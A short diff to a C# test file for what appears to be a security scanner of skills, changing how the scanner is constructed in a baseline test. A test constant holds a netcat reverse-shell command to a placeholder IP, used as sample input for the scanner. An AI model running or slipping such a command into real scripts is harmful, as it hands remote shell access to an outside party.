@@ -4,7 +4,7 @@ public sealed class BaselineTests
 {
     private const string Text = "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 1\n";
 
-    private static readonly SkillScanner Scanner = new();
+    private static readonly SkillScanner Scanner = new(new ScanOptions { Analyzers = [] });
 
     [Fact]
     public void A_finding_is_accepted_by_its_fingerprint_with_a_reason()
